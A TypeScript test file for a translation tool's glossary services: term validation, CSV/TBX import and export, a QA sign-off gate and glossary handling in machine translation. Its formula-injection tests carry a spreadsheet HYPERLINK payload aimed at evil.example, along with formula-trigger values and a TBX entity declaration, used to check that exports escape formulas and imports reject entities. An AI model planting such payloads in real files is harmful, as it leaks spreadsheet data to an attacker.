/** The glossary services over a temporary database: terms, validation, CSV/TBX import and export, the QA gate, MT. */
import Database from 'better-sqlite3';
import { afterEach, describe, expect, it } from 'vitest';
import type { DocumentDetail } from '../../../shared/types.js';
import { createBackend, type Backend } from '../../backend.js';
import type { MtEngine, TranslateOptions } from '../../engines/mtEngine.js';
import { recordJobEvents } from '../../testing/jobEvents.js';
import { fakeTranslate, startDeepl } from '../../engines/testing/loopbackServers.js';
import { createMemorySecretStore } from '../../engines/secretStore.js';
import { createFakeEngine } from '../../testing/fakeEngine.js';
import { failure } from '../../testing/failure.js';
import { makeTempDir, removeTempDir } from '../../testing/tempDir.js';

const cleanups: (() => void)[] = [];
afterEach(() => {
  while (cleanups.length > 0) cleanups.pop()!();
});

function start(engines: MtEngine[] = [createFakeEngine()]): Backend {
  const dir = makeTempDir();
  const backend = createBackend({ dataDir: dir, mode: 'electron', version: '1.0.0', engines });
  cleanups.push(() => {
    backend.close();
    removeTempDir(dir);
  });
  return backend;
}

const EN_ES = { sourceLang: 'en', targetLang: 'es' };
const EU = { source: 'European Union', target: 'Unión Europea', note: 'Never abbreviate in body text.', forbidden: ['UE'] };
const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

function count(backend: Backend): number {
  const db = new Database(backend.dbPath, { readonly: true });
  const n = db.prepare('SELECT count(*) FROM glossary_terms').pluck().get() as number;
  db.close();
  return n;
}

async function article(backend: Backend, paragraphs: string[]): Promise<DocumentDetail> {
  return backend.api.importDocument({ source: { kind: 'text', text: paragraphs.join('\n\n'), format: 'txt' }, ...EN_ES });
}

describe('glossary terms', () => {
  it('adds, lists, edits and deletes terms per language pair', async () => {
    const { api } = start();
    const added = await api.addGlossaryTerm({ ...EN_ES, term: { ...EU, source: '  European   Union ' } });
    expect(added).toMatchObject({ ...EN_ES, source: 'European Union', target: 'Unión Europea', forbidden: ['UE'], caseSensitive: false });
    await api.addGlossaryTerm({ sourceLang: 'EN', targetLang: 'de', term: { source: 'European Union', target: 'Europäische Union' } });
    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'NATO', target: 'OTAN', caseSensitive: true } });
    expect((await api.listGlossaryTerms(EN_ES)).map((t) => t.source)).toEqual(['European Union', 'NATO']);
    expect(await api.listGlossaryPairs({})).toEqual([
      { sourceLang: 'en', targetLang: 'de', count: 1 },
      { sourceLang: 'en', targetLang: 'es', count: 2 },
    ]);

    const edited = await api.updateGlossaryTerm({ termId: added.id, term: { ...EU, forbidden: ['UE', 'Unión'], note: '' } });
    expect(edited).toMatchObject({ id: added.id, forbidden: ['UE', 'Unión'], note: '', createdAt: added.createdAt });
    expect((await api.listGlossaryTerms(EN_ES))[0]).toEqual(edited);

    expect(await api.deleteGlossaryTerm({ termId: added.id })).toEqual({ deleted: true });
    expect((await api.listGlossaryTerms(EN_ES)).map((t) => t.source)).toEqual(['NATO']);
  });

  it('refuses bad terms with a clear error and changes nothing', async () => {
    const backend = start();
    const { api } = backend;
    const eu = await api.addGlossaryTerm({ ...EN_ES, term: EU });
    const nato = await api.addGlossaryTerm({ ...EN_ES, term: { source: 'NATO', target: 'OTAN' } });
    const cases: [Promise<unknown>, string, Record<string, unknown>?][] = [
      [api.addGlossaryTerm({ ...EN_ES, term: { source: ' ', target: 'x' } }), 'GLOSSARY_TERM_EMPTY', { field: 'source' }],
      [api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: '' } }), 'GLOSSARY_TERM_EMPTY', { field: 'target' }],
      [
        api.addGlossaryTerm({ ...EN_ES, term: { source: 'x'.repeat(201), target: 'y' } }),
        'GLOSSARY_TERM_TOO_LONG',
        { field: 'source', limit: 200 },
      ],
      [
        api.addGlossaryTerm({ ...EN_ES, term: { source: 'European Union', target: 'Otra' } }),
        'GLOSSARY_TERM_DUPLICATE',
        { source: 'European Union' },
      ],
      [
        api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: 'Casa', forbidden: ['casa'] } }),
        'GLOSSARY_FORBIDDEN_IS_TARGET',
        { variant: 'casa' },
      ],
      [
        api.addGlossaryTerm({ ...EN_ES, term: { source: 'x', target: 'y', forbidden: Array.from({ length: 21 }, (_, i) => `v${i}`) } }),
        'GLOSSARY_TOO_MANY_VARIANTS',
      ],
      [api.addGlossaryTerm({ sourceLang: 'xx-nope', targetLang: 'es', term: EU }), 'LANGUAGE_UNKNOWN'],
      [api.addGlossaryTerm({ sourceLang: 'es', targetLang: 'ES', term: EU }), 'LANGUAGE_SAME'],
      [api.updateGlossaryTerm({ termId: nato.id, term: { source: 'European Union', target: 'OTAN' } }), 'GLOSSARY_TERM_DUPLICATE'],
      [api.updateGlossaryTerm({ termId: 'gone', term: EU }), 'GLOSSARY_TERM_NOT_FOUND', { termId: 'gone' }],
      [api.deleteGlossaryTerm({ termId: 'gone' }), 'GLOSSARY_TERM_NOT_FOUND'],
    ];
    for (const [call, code, details] of cases) {
      const err = await failure(call);
      expect(err.code).toBe(code);
      if (details) expect(err.details).toMatchObject(details);
    }
    expect(count(backend)).toBe(2);
    expect(await api.listGlossaryTerms(EN_ES)).toEqual([eu, nato]);
    // Through the dispatcher, a malformed payload is refused before it reaches the service.
    expect(await backend.dispatch('addGlossaryTerm', { ...EN_ES, term: { source: 1 } })).toMatchObject({
      ok: false,
      error: { code: 'BAD_REQUEST' },
    });
  });
});

describe('glossary import and export', () => {
  const CSV = 'source,target,note,forbidden,case_sensitive\r\nEuropean Union,Unión Europea,,UE,no\r\nNATO,OTAN,,,yes\r\n';

  it('merges: adds new terms, updates changed ones, keeps the rest', async () => {
    const { api } = start();
    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'European Union', target: 'Comunidad' } });
    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'prime minister', target: 'primer ministro' } });
    const result = await api.importGlossary({ ...EN_ES, fileName: 'terms.csv', dataBase64: b64(CSV), mode: 'merge' });
    expect(result).toEqual({ added: 1, updated: 1, unchanged: 0, removed: 0, total: 3 });
    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.caseSensitive])).toEqual([
      ['European Union', 'Unión Europea', false],
      ['NATO', 'OTAN', true],
      ['prime minister', 'primer ministro', false],
    ]);
    expect(await api.importGlossary({ ...EN_ES, fileName: 'terms.csv', dataBase64: b64(CSV), mode: 'merge' })).toEqual({
      added: 0,
      updated: 0,
      unchanged: 2,
      removed: 0,
      total: 3,
    });
  });

  it('replaces: terms not in the file are removed; other pairs are untouched', async () => {
    const { api } = start();
    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'prime minister', target: 'primer ministro' } });
    await api.addGlossaryTerm({ sourceLang: 'en', targetLang: 'de', term: { source: 'prime minister', target: 'Premierminister' } });
    expect(await api.importGlossary({ ...EN_ES, fileName: 'terms.csv', dataBase64: b64(CSV), mode: 'replace' })).toEqual({
      added: 2,
      updated: 0,
      unchanged: 0,
      removed: 1,
      total: 2,
    });
    expect((await api.listGlossaryTerms({ sourceLang: 'en', targetLang: 'de' })).map((t) => t.target)).toEqual(['Premierminister']);
  });

  it('is one transaction: a bad row, a duplicate or a hostile file changes nothing', async () => {
    const backend = start();
    const { api } = backend;
    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'prime minister', target: 'primer ministro' } });
    const before = await api.listGlossaryTerms(EN_ES);
    const imp = (fileName: string, text: string | Buffer, mode: 'merge' | 'replace' = 'replace') =>
      failure(api.importGlossary({ ...EN_ES, fileName, dataBase64: Buffer.isBuffer(text) ? text.toString('base64') : b64(text), mode }));
    expect(await imp('t.csv', `${CSV}"",missing source\r\n`)).toMatchObject({
      code: 'GLOSSARY_IMPORT_ROW_INVALID',
      details: { row: 4, field: 'source', reason: 'GLOSSARY_TERM_EMPTY' },
    });
    expect(await imp('t.csv', `${CSV}NATO,Otra\r\n`)).toMatchObject({
      code: 'GLOSSARY_IMPORT_DUPLICATE',
      details: { row: 4, firstRow: 3, source: 'NATO' },
    });
    expect(await imp('t.csv', `${CSV}x,y,,y,no\r\n`)).toMatchObject({
      code: 'GLOSSARY_IMPORT_ROW_INVALID',
      details: { row: 4, field: 'forbidden', reason: 'GLOSSARY_FORBIDDEN_IS_TARGET', variant: 'y' },
    });
    expect(await imp('t.tbx', '<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY a "b">]><tbx/>')).toMatchObject({
      code: 'GLOSSARY_TBX_ENTITIES',
    });
    expect(await imp('t.csv', Buffer.from([0x73, 0x6f, 0xff, 0xfe, 0x0a]))).toMatchObject({ code: 'GLOSSARY_IMPORT_ENCODING' });
    expect(await imp('t.csv', Buffer.alloc(10 * 1024 * 1024 + 1, 0x61))).toMatchObject({ code: 'GLOSSARY_IMPORT_TOO_LARGE' });
    expect(await imp('t.docx', CSV)).toMatchObject({ code: 'GLOSSARY_IMPORT_FORMAT' });
    expect(await imp('t.csv', 'source,target\r\n')).toMatchObject({ code: 'GLOSSARY_IMPORT_EMPTY' });
    expect(await api.listGlossaryTerms(EN_ES)).toEqual(before);
    expect(count(backend)).toBe(1);
  });

  it('exports CSV and TBX that import back to the same terms (UTF-16 with a BOM too)', async () => {
    const { api } = start();
    await api.addGlossaryTerm({ ...EN_ES, term: { ...EU, note: 'Comma, "quote" & <tag>', forbidden: ['UE', 'Unión'] } });
    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'NATO', target: 'OTAN', caseSensitive: true } });
    const original = (await api.listGlossaryTerms(EN_ES)).map(({ source, target, note, forbidden, caseSensitive }) => ({
      source,
      target,
      note,
      forbidden,
      caseSensitive,
    }));
    for (const format of ['csv', 'tbx'] as const) {
      const file = await api.exportGlossary({ ...EN_ES, format });
      expect(file.fileName).toBe(`glossary.en-es.${format}`);
      const other = start();
      const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(file.content, 'utf16le')]);
      expect(
        await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: utf16.toString('base64'), mode: 'merge' }),
      ).toMatchObject({ added: 2 });
      const back = (await other.api.listGlossaryTerms(EN_ES)).map(({ source, target, note, forbidden, caseSensitive }) => ({
        source,
        target,
        note,
        forbidden,
        caseSensitive,
      }));
      expect(back, format).toEqual(original);
    }
  });

  it('exports TBX-Basic 2008 (v2) by default and v3 on request; both keep definitions into another library', async () => {
    const { api } = start();
    await api.addGlossaryTerm({ ...EN_ES, term: { ...EU, definition: 'Political & economic union of 27 <member> states.' } });
    await api.addGlossaryTerm({ ...EN_ES, term: { source: 'NATO', target: 'OTAN', definition: 'North Atlantic alliance.' } });
    const original = (await api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({
      source,
      target,
      note,
      definition,
      forbidden,
    }));
    expect(original.map((t) => t.definition)).toEqual(['Political & economic union of 27 <member> states.', 'North Atlantic alliance.']);

    const v2 = await api.exportGlossary({ ...EN_ES, format: 'tbx' });
    expect(v2.fileName).toBe('glossary.en-es.tbx');
    expect(v2.content).toContain('<martif type="TBX-Basic" xml:lang="en">');
    expect(await api.exportGlossary({ ...EN_ES, format: 'tbx', tbxVersion: 'v2' })).toEqual(v2);
    const v3 = await api.exportGlossary({ ...EN_ES, format: 'tbx', tbxVersion: 'v3' });
    expect(v3.fileName).toBe('glossary.en-es.tbx-v3.tbx');
    expect(v3.content).toContain('<tbx type="TBX-Basic" style="dca"');

    for (const file of [v2, v3]) {
      const other = start();
      expect(
        await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' }),
      ).toMatchObject({ added: 2 });
      const back = (await other.api.listGlossaryTerms(EN_ES)).map(({ source, target, note, definition, forbidden }) => ({
        source,
        target,
        note,
        definition,
        forbidden,
      }));
      expect(back, file.fileName).toEqual(original);
    }

    // An edit that does not send a definition keeps it; one that sends '' clears it.
    const nato = (await api.listGlossaryTerms(EN_ES))[1]!;
    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN' } })).definition).toBe(
      'North Atlantic alliance.',
    );
    expect((await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN', definition: '' } })).definition).toBe(
      '',
    );
    await api.updateGlossaryTerm({ termId: nato.id, term: { source: 'NATO', target: 'OTAN', definition: 'North Atlantic alliance.' } });

    // A changed definition is a change: merge updates the term.
    const changed = v2.content.replace('North Atlantic alliance.', 'A military alliance.');
    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(changed), mode: 'merge' })).toMatchObject({
      updated: 1,
      unchanged: 1,
    });
    expect((await api.listGlossaryTerms(EN_ES))[1]?.definition).toBe('A military alliance.');

    // A file that carries no definitions (an older CSV, another tool's TBX) leaves stored ones alone.
    const plainCsv =
      'source,target,note,forbidden\r\nEuropean Union,Unión Europea,Never abbreviate in body text.,UE\r\nNATO,OTAN de la alianza,,\r\n';
    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(plainCsv), mode: 'replace' })).toMatchObject({
      updated: 1,
      unchanged: 1,
    });
    const plainTbx = v2.content.replace(/\s*<descrip type="definition">[^<]*<\/descrip>/g, '');
    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(plainTbx), mode: 'merge' })).toMatchObject({
      updated: 1,
      unchanged: 1,
    });
    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.target, t.definition])).toEqual([
      ['Unión Europea', 'Political & economic union of 27 <member> states.'],
      ['OTAN', 'A military alliance.'],
    ]);
    // The CSV export carries the definition (last column) and brings it back.
    const csv = await api.exportGlossary({ ...EN_ES, format: 'csv' });
    expect(csv.content.split('\r\n')[0]).toBe('source,target,note,forbidden,case_sensitive,definition');
    const other = start();
    await other.api.importGlossary({ ...EN_ES, fileName: csv.fileName, dataBase64: b64(csv.content), mode: 'merge' });
    expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => t.definition)).toEqual([
      'Political & economic union of 27 <member> states.',
      'A military alliance.',
    ]);
  });

  it('says which data categories of a TBX file it did not keep, and in how many entries', async () => {
    const { api } = start();
    const tbx = `<?xml version="1.0" encoding="UTF-8"?>
<martif type="TBX-Basic" xml:lang="en"><martifHeader><fileDesc><sourceDesc><p>x</p></sourceDesc></fileDesc></martifHeader><text><body>
  <termEntry id="a"><descrip type="subjectField">economy</descrip>
    <langSet xml:lang="en"><tig><term>bond</term><termNote type="partOfSpeech">noun</termNote></tig><tig><term>debenture</term></tig></langSet>
    <langSet xml:lang="es"><tig><term>bono</term></tig></langSet></termEntry>
  <termEntry id="b"><langSet xml:lang="en"><tig><term>tariff</term><termNote type="partOfSpeech">noun</termNote></tig></langSet>
    <langSet xml:lang="es"><tig><term>arancel</term></tig></langSet></termEntry>
  <termEntry id="c"><langSet xml:lang="en"><tig><term>deficit</term></tig></langSet><langSet xml:lang="es"><tig><term>déficit</term></tig></langSet></termEntry>
</body></text></martif>`;
    const withGerman = tbx.replace(
      '</body>',
      '<termEntry id="d"><langSet xml:lang="en"><tig><term>levy</term></tig></langSet><langSet xml:lang="de"><tig><term>Abgabe</term></tig></langSet></termEntry></body>',
    );
    expect(await api.importGlossary({ ...EN_ES, fileName: 'g.tbx', dataBase64: b64(withGerman), mode: 'merge' })).toEqual({
      added: 4,
      updated: 0,
      unchanged: 0,
      removed: 0,
      total: 4,
      notKept: [
        { category: 'subjectField', entries: 1 },
        { category: 'partOfSpeech', entries: 2 },
      ],
      skippedEntries: 1,
    });
    // A file naming many categories: twenty are listed, the rest counted as "other".
    const many = Array.from(
      { length: 30 },
      (_, i) =>
        `<termEntry><descrip type="cat${i}">x</descrip><langSet xml:lang="en"><tig><term>t${i}</term></tig></langSet><langSet xml:lang="es"><tig><term>u${i}</term></tig></langSet></termEntry>`,
    ).join('');
    const manyResult = await start().api.importGlossary({
      ...EN_ES,
      fileName: 'many.tbx',
      dataBase64: b64(`<martif type="TBX-Basic" xml:lang="en"><text><body>${many}</body></text></martif>`),
      mode: 'merge',
    });
    expect(manyResult.notKept).toHaveLength(21);
    expect(manyResult.notKept?.at(-1)).toEqual({ category: 'other', entries: 10 });
    // Verso's own export keeps everything it reads back: nothing is reported.
    const own = await api.exportGlossary({ ...EN_ES, format: 'tbx' });
    expect(
      await start().api.importGlossary({ ...EN_ES, fileName: own.fileName, dataBase64: b64(own.content), mode: 'merge' }),
    ).not.toHaveProperty('notKept');
  });

  it('refuses a TBX export of a pair without terms (a TBX body holds at least one entry), and a too-long definition', async () => {
    const { api } = start();
    expect(await failure(api.exportGlossary({ ...EN_ES, format: 'tbx' }))).toMatchObject({ code: 'GLOSSARY_EXPORT_EMPTY' });
    expect((await api.exportGlossary({ ...EN_ES, format: 'csv' })).fileName).toBe('glossary.en-es.csv');
    expect(await failure(api.addGlossaryTerm({ ...EN_ES, term: { ...EU, definition: 'x'.repeat(2001) } }))).toMatchObject({
      code: 'GLOSSARY_TERM_TOO_LONG',
      details: { field: 'definition', limit: 2000 },
    });
  });
});

describe('glossary CSV export and formula injection', () => {
  it('an imported CSV never stores control characters in terms or notes', async () => {
    const { api } = start();
    const csv = 'source,target,note\r\nBud\u001bget,Presu\u0000puesto,"see\u001b[2J\nthis"\r\n';
    await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(csv), mode: 'merge' });
    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note])).toEqual([
      ['Budget', 'Presupuesto', 'see[2J\nthis'],
    ]);
  });

  it('a note starting with a tab is stored trimmed and exported with the apostrophe, never as a formula', async () => {
    const { api } = start();
    await api.addGlossaryTerm({
      ...EN_ES,
      term: { source: '=HYPERLINK("http://evil.example/?x="&A1,"click")', target: 'x', note: '\t=1+1' },
    });
    await api.addGlossaryTerm({ ...EN_ES, term: { source: '@cmd', target: '-x', note: '+note' } });
    const file = await api.exportGlossary({ ...EN_ES, format: 'csv' });
    const lines = file.content.split('\r\n');
    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",x,'=1+1,,no,`);
    expect(lines).toContain(`'@cmd,'-x,'+note,,no,`);
    const other = start();
    await other.api.importGlossary({ ...EN_ES, fileName: file.fileName, dataBase64: b64(file.content), mode: 'merge' });
    expect((await other.api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note]).sort()).toEqual([
      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 'x', '=1+1'],
      ['@cmd', '-x', '+note'],
    ]);
  });
});

describe('the glossary in the sign-off gate', () => {
  it('blocks sign-off of a paragraph that misses a term or uses a forbidden variant, until fixed or overridden', async () => {
    const backend = start();
    const { api } = backend;
    await api.addGlossaryTerm({ ...EN_ES, term: EU });
    await api.setProfile({ name: 'Elena', role: 'editor' });
    const doc = await article(backend, ['The European Union met today.', 'The European Union agreed.', 'Nothing to see.']);
    const [p1, p2, p3] = doc.paragraphs.map((p) => p.id) as [string, string, string];
    await api.updateParagraphTarget({ paragraphId: p1, target: 'La UE se reunió hoy.' });
    await api.updateParagraphTarget({ paragraphId: p2, target: 'La Comunidad acordó.' });
    await api.updateParagraphTarget({ paragraphId: p3, target: 'Nada que ver.' });

    expect(await failure(api.signOffParagraphs({ paragraphIds: [p1, p2, p3] }))).toMatchObject({
      code: 'QA_BLOCKED',
      details: { paragraphs: [1, 2] },
    });
    const summary = await api.signOffReviewed({ paragraphIds: [p1, p2, p3] });
    expect(summary.signedOff.map((p) => p.id)).toEqual([p3]);
    expect(summary.skipped.map((s) => [s.number, s.issues.map((i) => i.code)])).toEqual([
      [1, ['glossaryTermMissing', 'glossaryForbidden']],
      [2, ['glossaryTermMissing']],
    ]);

    // Fixed: signed off. Overridden with a reason: signed off, the reason and the issues kept.
    await api.updateParagraphTarget({ paragraphId: p1, target: 'La Unión Europea se reunió hoy.' });
    expect((await api.signOffReviewed({ paragraphIds: [p1] })).signedOff).toHaveLength(1);
    const overridden = await api.signOffReviewed({
      paragraphIds: [p2],
      overrides: [{ paragraphId: p2, reason: 'Quoting an old document.' }],
    });
    expect(overridden.signedOff).toHaveLength(1);
    const history = await api.getParagraphHistory({ paragraphId: p2 });
    expect(JSON.stringify(history)).toContain('Quoting an old document.');
    expect(JSON.stringify(history)).toContain('glossaryTermMissing');

    // Terms of the broader tag serve a regional document (pt terms for pt-BR).
    const pt = await api.addGlossaryTerm({
      sourceLang: 'en',
      targetLang: 'pt',
      term: { source: 'European Union', target: 'União Europeia' },
    });
    const regional = await api.importDocument({
      source: { kind: 'text', text: 'The European Union met.', format: 'txt' },
      sourceLang: 'en',
      targetLang: 'pt-BR',
    });
    expect((await api.listDocumentGlossary({ documentId: regional.id })).map((t) => t.target)).toEqual(['União Europeia']);
    await api.updateParagraphTarget({ paragraphId: regional.paragraphs[0]!.id, target: 'A UE se reuniu.' });
    expect((await api.signOffReviewed({ paragraphIds: [regional.paragraphs[0]!.id] })).skipped).toHaveLength(1);
    // The gate follows the glossary at once: without the term the paragraph signs off.
    await api.deleteGlossaryTerm({ termId: pt.id });
    expect((await api.signOffReviewed({ paragraphIds: [regional.paragraphs[0]!.id] })).signedOff).toHaveLength(1);
  });
});

describe('the glossary in machine translation', () => {
  function promptEngine(kind: 'openai' | 'apertium') {
    const seen: { texts: string[]; glossary: TranslateOptions['glossary'] }[] = [];
    const engine: MtEngine = {
      id: kind,
      name: kind,
      kind,
      async describe() {
        return { available: true, unavailableReason: null, version: '1', pairs: [{ source: 'en', target: 'es' }] };
      },
      async translateBatch(texts, _pair, { onResult, glossary }) {
        seen.push({ texts: [...texts], glossary });
        return texts.map((t, i) => {
          const output = { text: `ES ${t}`, unknownWords: [] };
          onResult?.(i, output);
          return output;
        });
      },
    };
    return { engine, seen };
  }

  it('gives the terms to the OpenAI-compatible engine, and a changed term is not served from the cache', async () => {
    const { engine, seen } = promptEngine('openai');
    const backend = start([engine]);
    const { api } = backend;
    const log = recordJobEvents(backend.events);
    await api.setProfile({ name: 'Tomás', role: 'translator' });
    const eu = await api.addGlossaryTerm({ ...EN_ES, term: EU });
    const doc = await article(backend, ['The European Union met.', 'Nothing here.']);
    const job = await api.translateDocument({ documentId: doc.id, scope: 'all' });
    expect((await log.final(job.jobId)).state).toBe('done');
    expect(seen[0]!.glossary).toEqual([{ source: 'European Union', target: 'Unión Europea', caseSensitive: false, forbidden: ['UE'] }]);

    // Same glossary: both from the cache. Changed term: the paragraph with it goes to the engine again.
    const again = await api.translateDocument({ documentId: doc.id, scope: 'all' });
    await log.final(again.jobId);
    expect(seen).toHaveLength(1);
    await api.updateGlossaryTerm({ termId: eu.id, term: { ...EU, target: 'Unión Europea (UE)' } });
    const third = await api.translateDocument({ documentId: doc.id, scope: 'all' });
    await log.final(third.jobId);
    expect(seen[1]!.texts).toEqual(['The European Union met.']);
    log.stop();
  });

  it('does not send terms to engines that cannot take them (Apertium: the QA check flags after MT)', async () => {
    const { engine, seen } = promptEngine('apertium');
    const backend = start([engine]);
    const log = recordJobEvents(backend.events);
    await backend.api.setProfile({ name: 'Tomás', role: 'translator' });
    await backend.api.addGlossaryTerm({ ...EN_ES, term: EU });
    const doc = await article(backend, ['The European Union met.']);
    const job = await backend.api.translateDocument({ documentId: doc.id, scope: 'all' });
    await log.final(job.jobId);
    expect(seen[0]!.glossary).toBeUndefined();
    log.stop();
  });

  it('gives the terms to DeepL as a DeepL glossary, created once and used by the translation', async () => {
    const server = await startDeepl({ key: 'dl-key' });
    cleanups.push(() => void server.close());
    const dir = makeTempDir();
    const backend = createBackend({
      dataDir: dir,
      mode: 'browser',
      version: '1.0.0',
      engines: [],
      secrets: createMemorySecretStore(),
      http: { sleep: async () => undefined },
    });
    cleanups.push(() => {
      backend.close();
      removeTempDir(dir);
    });
    const { api } = backend;
    const log = recordJobEvents(backend.events);
    await api.setProfile({ name: 'Tomás', role: 'translator' });
    await api.saveEngineSettings({
      engine: 'deepl',
      enabled: true,
      baseUrl: server.url,
      formality: 'default',
      glossaryId: '',
      apiKey: 'dl-key',
    });
    await api.addGlossaryTerm({ ...EN_ES, term: EU });
    const doc = await article(backend, ['The European Union met.', 'Nothing here.']);
    const job = await api.translateDocument({ documentId: doc.id, scope: 'all', engineId: 'deepl' });
    expect((await log.final(job.jobId)).state).toBe('done');
    expect(server.glossaries).toHaveLength(1);
    expect(server.glossaries[0]).toMatchObject({ source_lang: 'en', target_lang: 'es', entries: 'European Union\tUnión Europea' });
    const after = await api.getDocument({ documentId: doc.id });
    expect(after.paragraphs[0]!.target).toBe(fakeTranslate('The Unión Europea met.', 'ES'));
    log.stop();
  });
});
